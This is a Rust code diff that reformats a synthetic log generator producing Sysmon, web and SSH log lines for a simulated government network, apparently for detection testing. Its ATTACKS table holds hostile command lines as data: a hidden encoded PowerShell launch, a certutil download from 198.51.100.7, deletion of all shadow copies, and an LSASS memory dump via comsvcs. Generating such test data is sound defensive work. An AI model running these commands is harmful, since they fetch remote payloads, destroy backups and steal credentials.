@@ -57,7 +57,10 @@ pub struct Generator {
     attack_every: u64,
 }
 
-const USERS: &[&str] = &["an.nv", "binh.tt", "chi.lt", "dung.pv", "giang.vt", "ha.nt", "hung.dq", "khanh.lm", "lan.pt", "minh.nd", "nga.tt", "quan.hv", "son.lv", "thao.nt", "tuan.na", "yen.dt"];
+const USERS: &[&str] = &[
+    "an.nv", "binh.tt", "chi.lt", "dung.pv", "giang.vt", "ha.nt", "hung.dq", "khanh.lm", "lan.pt", "minh.nd", "nga.tt", "quan.hv",
+    "son.lv", "thao.nt", "tuan.na", "yen.dt",
+];
 const AGENCIES: &[&str] = &["ubnd", "sotc", "sogd", "soyt", "sotttt", "stnmt", "sxd", "sgtvt", "snn", "sct"];
 const IMAGES: &[&str] = &[
     r"C:\\Windows\\System32\\svchost.exe",
@@ -70,13 +73,28 @@ const IMAGES: &[&str] = &[
     r"C:\\Program Files\\Kaspersky Lab\\avp.exe",
 ];
 const ATTACKS: &[(&str, &str)] = &[
-    (r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
+    (
+        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    ),
     (r"C:\\Windows\\System32\\certutil.exe", r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
     (r"C:\\Windows\\System32\\vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet"),
     (r"C:\\Windows\\System32\\rundll32.exe", r"rundll32.exe C:\\windows\\system32\\comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full"),
 ];
-const URLS: &[&str] = &["/", "/index.html", "/dichvucong/hoso", "/vanban/tim-kiem?q=quyet+dinh", "/static/app.js", "/tin-tuc/2026/11", "/api/v2/hoso/tra-cuu", "/images/logo.png"];
-const AGENTS: &[&str] = &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15"];
+const URLS: &[&str] = &[
+    "/",
+    "/index.html",
+    "/dichvucong/hoso",
+    "/vanban/tim-kiem?q=quyet+dinh",
+    "/static/app.js",
+    "/tin-tuc/2026/11",
+    "/api/v2/hoso/tra-cuu",
+    "/images/logo.png",
+];
+const AGENTS: &[&str] = &[
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15",
+];
 
 impl Generator {
     /// From a seed; `clock` is the first line's time (seconds since 1970), `per_second` lines share a second.
@@ -164,7 +182,12 @@ impl Generator {
                 write!(
                     out,
                     r#"{},"RuleName":"-","UtcTime":"{time}.{:03}","ProcessGuid":"{{{guid:016X}-0000}}","ProcessId":"{pid}","Image":"{}","User":"LAICHAU\\{user}","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"{source}","SourceHostname":"{host}","SourcePort":"{}","DestinationIsIpv6":"false","DestinationIp":"{destination}","DestinationHostname":"-","DestinationPort":"443","EventReceivedTime":"{time}","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}}"#,
-                    head(3, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "Network connection detected (rule: NetworkConnect)"),
+                    head(
+                        3,
+                        "Microsoft-Windows-Sysmon/Operational",
+                        "Microsoft-Windows-Sysmon",
+                        "Network connection detected (rule: NetworkConnect)"
+                    ),
                     guid % 1000,
                     self.rng.pick(IMAGES),
                     1024 + self.rng.below(60_000)
@@ -242,10 +265,21 @@ impl Generator {
         let (user, address) = (self.rng.pick(USERS), self.inside());
         let (pid, port) = (300 + self.rng.below(60_000), 1024 + self.rng.below(60_000));
         match if attack { 0 } else { 1 + self.rng.below(9) } {
-            0 => write!(out, "<38>{stamp} {host} sshd[{pid}]: Failed password for invalid user admin from {} port {port} ssh2", self.outside()),
-            1..3 => write!(out, "<38>{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:q{:016x}", self.rng.next_u64()),
+            0 => write!(
+                out,
+                "<38>{stamp} {host} sshd[{pid}]: Failed password for invalid user admin from {} port {port} ssh2",
+                self.outside()
+            ),
+            1..3 => write!(
+                out,
+                "<38>{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:q{:016x}",
+                self.rng.next_u64()
+            ),
             3 => write!(out, "<86>{stamp} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1002) by (uid=0)"),
-            4 => write!(out, "<85>{stamp} {host} sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"),
+            4 => write!(
+                out,
+                "<85>{stamp} {host} sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
+            ),
             5 => write!(out, "<78>{stamp} {host} CRON[{pid}]: (root) CMD (/usr/local/bin/backup-check --quiet)"),
             6 => write!(out, "<30>{stamp} {host} systemd[1]: Started session-{}.scope - Session of User {user}.", self.rng.below(9000)),
             _ => {
